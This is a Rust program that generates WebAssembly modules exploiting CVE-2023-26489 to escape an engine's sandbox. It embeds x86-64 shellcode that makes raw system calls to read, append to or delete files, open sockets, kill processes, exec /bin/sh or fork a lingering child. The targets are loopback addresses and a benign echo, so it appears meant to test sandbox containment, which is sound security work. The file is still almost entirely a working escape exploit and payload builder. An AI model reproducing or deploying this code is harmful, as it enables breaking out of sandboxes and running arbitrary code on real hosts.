//! `module ACT TARGET`: prints a module that leaves the sandbox of the engine with CVE-2023-26489 and does the act then, by
//! system calls of its own. It writes `ESCAPED`, what the act got hold of, `RESULTS` and each call's result (8 bytes).

use std::fmt::Write as _;
use std::process::ExitCode;

const TEXT: &str = include_str!("../../escape.wat");
/// Places in the module's memory, as the text says.
const CODE_AT: usize = 0x1_0000;
const CALLS_AT: usize = 0x2_0000;
const CALL_BYTES: usize = 64;
/// Where words and buffers of the calls lie, above the calls.
const WORDS_AT: usize = 0x2_8000;
const ADDRESSES_AT: usize = 0x3_0000;

// The payload. `rbx` goes through the calls: a number, six arguments, a place for the result. -2 as the first argument
// stands for the result before. Of a fork only the child goes on. The last call ends the process.
std::arch::global_asm!(
    ".pushsection .rodata",
    "escape_payload:",
    "pop rbx",
    "2:",
    "mov rax, [rbx]",
    "mov rdi, [rbx + 8]",
    "mov rsi, [rbx + 16]",
    "mov rdx, [rbx + 24]",
    "mov r10, [rbx + 32]",
    "mov r8, [rbx + 40]",
    "mov r9, [rbx + 48]",
    "cmp rdi, -2",
    "cmove rdi, r12",
    "mov r13, rax",
    "syscall",
    "mov [rbx + 56], rax",
    "mov r12, rax",
    "add rbx, 64",
    "cmp r13, {fork}",
    "jne 2b",
    "test rax, rax",
    "jle 2b",
    "xor edi, edi",
    "mov eax, {exit_group}",
    "syscall",
    "escape_payload_end:",
    ".popsection",
    fork = const FORK,
    exit_group = const EXIT_GROUP,
);

unsafe extern "C" {
    static escape_payload: u8;
    static escape_payload_end: u8;
}

const READ: u64 = 0;
const WRITE: u64 = 1;
const OPEN: u64 = 2;
const NANOSLEEP: u64 = 35;
const SOCKET: u64 = 41;
const CONNECT: u64 = 42;
const SENDTO: u64 = 44;
const FORK: u64 = 57;
const EXECVE: u64 = 59;
const KILL: u64 = 62;
const UNLINK: u64 = 87;
const EXIT_GROUP: u64 = 231;

const STDOUT: u64 = 1;
const O_WRONLY: u64 = 1;
const O_APPEND: u64 = 0x400;
const AF_UNIX: u64 = 1;
const AF_INET: u64 = 2;
const SOCK_STREAM: u64 = 1;
const SOCK_DGRAM: u64 = 2;
const SIGKILL: u64 = 9;

/// An argument of a call.
#[derive(Clone, Copy)]
enum Word {
    Number(u64),
    /// What the call before gave.
    Before,
    /// A place in the module's memory.
    Place(usize),
}

use Word::{Before, Number, Place};

/// What the payload does: its calls, their words, and which of all these hold addresses.
#[derive(Default)]
struct Layout {
    calls: Vec<u8>,
    words: Vec<u8>,
    addresses: Vec<usize>,
}

impl Layout {
    fn call(&mut self, number: u64, arguments: &[Word]) {
        let at = CALLS_AT + self.calls.len();
        self.calls.extend(number.to_le_bytes());
        for index in 0..6 {
            let value = match arguments.get(index).copied().unwrap_or(Number(0)) {
                Number(value) => value,
                Before => u64::MAX - 1,
                Place(place) => {
                    self.addresses.push(at + 8 + 8 * index);
                    place as u64
                }
            };
            self.calls.extend(value.to_le_bytes());
        }
        self.calls.extend([0; 8]);
    }

    fn put(&mut self, bytes: &[u8]) -> Word {
        let at = WORDS_AT + self.words.len();
        self.words.extend(bytes);
        self.words.resize(self.words.len().next_multiple_of(8), 0);
        Place(at)
    }

    fn text(&mut self, text: &str) -> Word {
        self.put(&[text.as_bytes(), &[0]].concat())
    }

    /// Addresses of words, ended by a null.
    fn list(&mut self, texts: &[&str]) -> Word {
        let places: Vec<Word> = texts.iter().map(|text| self.text(text)).collect();
        let Place(list) = self.put(&vec![0; 8 * (texts.len() + 1)]) else { unreachable!("`put` gives places") };
        for (index, place) in places.into_iter().enumerate() {
            let Place(place) = place else { unreachable!("`put` gives places") };
            let at = list + 8 * index;
            self.words[at - WORDS_AT..][..8].copy_from_slice(&(place as u64).to_le_bytes());
            self.addresses.push(at);
        }
        Place(list)
    }

    fn say(&mut self, bytes: &[u8]) {
        let words = self.put(bytes);
        self.call(WRITE, &[Number(STDOUT), words, Number(bytes.len() as u64)]);
    }

    fn connect(&mut self, family: u64, address: &[u8]) {
        let place = self.put(address);
        self.call(SOCKET, &[Number(family), Number(SOCK_STREAM)]);
        self.call(CONNECT, &[Before, place, Number(address.len() as u64)]);
    }

    fn append(&mut self, path: &str) {
        let (path, words) = (self.text(path), self.put(b"owned\n"));
        self.call(OPEN, &[path, Number(O_WRONLY | O_APPEND)]);
        self.call(WRITE, &[Before, words, Number(6)]);
    }
}

fn loopback(port: &str) -> Result<Vec<u8>, String> {
    let port: u16 = port.parse().map_err(|error| format!("`{port}`: {error}"))?;
    let family = (AF_INET as u16).to_ne_bytes();
    Ok([&family[..], &port.to_be_bytes(), &[127, 0, 0, 1], &[0; 8]].concat())
}

fn named(zero: &[u8], name: &str) -> Vec<u8> {
    [&(AF_UNIX as u16).to_ne_bytes()[..], zero, name.as_bytes()].concat()
}

/// The calls of an act.
fn act(layout: &mut Layout, act: &str, target: &str) -> Result<(), String> {
    match act {
        "read" => {
            let (path, buffer) = (layout.text(target), layout.put(&[0; 64]));
            layout.call(OPEN, &[path]);
            layout.call(READ, &[Before, buffer, Number(64)]);
            layout.call(WRITE, &[Number(STDOUT), buffer, Number(64)]);
        }
        "write" => layout.append(target),
        "remove" => {
            let path = layout.text(target);
            layout.call(UNLINK, &[path]);
        }
        "tcp" => layout.connect(AF_INET, &loopback(target)?),
        "udp" => {
            let (address, word) = (layout.put(&loopback(target)?), layout.put(b"lure"));
            layout.call(SOCKET, &[Number(AF_INET), Number(SOCK_DGRAM)]);
            layout.call(SENDTO, &[Before, word, Number(4), Number(0), address, Number(16)]);
        }
        "unix" => layout.connect(AF_UNIX, &named(&[], target)),
        "abstract" => layout.connect(AF_UNIX, &named(&[0], target)),
        "signal" => {
            let process = target.parse().map_err(|error| format!("`{target}`: {error}"))?;
            layout.call(KILL, &[Number(process), Number(SIGKILL)]);
        }
        "execute" => {
            let (path, words) = (layout.text("/bin/sh"), layout.list(&["sh", "-c", "echo DELIVERED"]));
            layout.call(EXECVE, &[path, words]);
        }
        "outlive" => {
            // A fifth of a second after its parent.
            let time = layout.put(&[0_u64.to_le_bytes(), 200_000_000_u64.to_le_bytes()].concat());
            layout.call(FORK, &[]);
            layout.call(NANOSLEEP, &[time]);
            layout.connect(AF_UNIX, &named(&[], target));
        }
        other => return Err(format!("there is no act `{other}`")),
    }
    Ok(())
}

fn payload() -> Vec<u8> {
    let (start, end) = (&raw const escape_payload, &raw const escape_payload_end);
    // SAFETY: both labels are of one piece of code above, which nobody writes.
    unsafe { std::slice::from_raw_parts(start, end.offset_from_unsigned(start)) }.to_vec()
}

fn module(name: &str, target: &str) -> Result<String, String> {
    let mut layout = Layout::default();
    layout.say(b"ESCAPED\n");
    let first = layout.calls.len() / CALL_BYTES;
    act(&mut layout, name, target)?;
    let after = layout.calls.len() / CALL_BYTES;
    layout.say(b"RESULTS");
    for index in first..after {
        let result = Place(CALLS_AT + CALL_BYTES * (index + 1) - 8);
        layout.call(WRITE, &[Number(STDOUT), result, Number(8)]);
    }
    layout.call(EXIT_GROUP, &[]);
    let addresses: Vec<u8> = layout.addresses.iter().flat_map(|at| (*at as u32).to_le_bytes()).collect();
    let mut text = TEXT.trim_end().strip_suffix(')').ok_or("the text has no end")?.to_owned();
    let parts = [(CODE_AT, payload()), (CALLS_AT, layout.calls), (WORDS_AT, layout.words), (ADDRESSES_AT, addresses)];
    for (at, bytes) in parts {
        let escaped: String = bytes.iter().fold(String::new(), |mut text, byte| {
            let _ = write!(text, "\\{byte:02x}");
            text
        });
        let _ = writeln!(text, "  (data (i32.const {at}) \"{escaped}\")");
    }
    text.push_str(")\n");
    Ok(text)
}

fn main() -> ExitCode {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let made = match arguments.as_slice() {
        [act, target] => module(act, target),
        _ => Err("usage: module ACT TARGET".to_owned()),
    };
    match made {
        Ok(text) => {
            print!("{text}");
            ExitCode::SUCCESS
        }
        Err(message) => {
            eprintln!("{message}");
            ExitCode::FAILURE
        }
    }
}
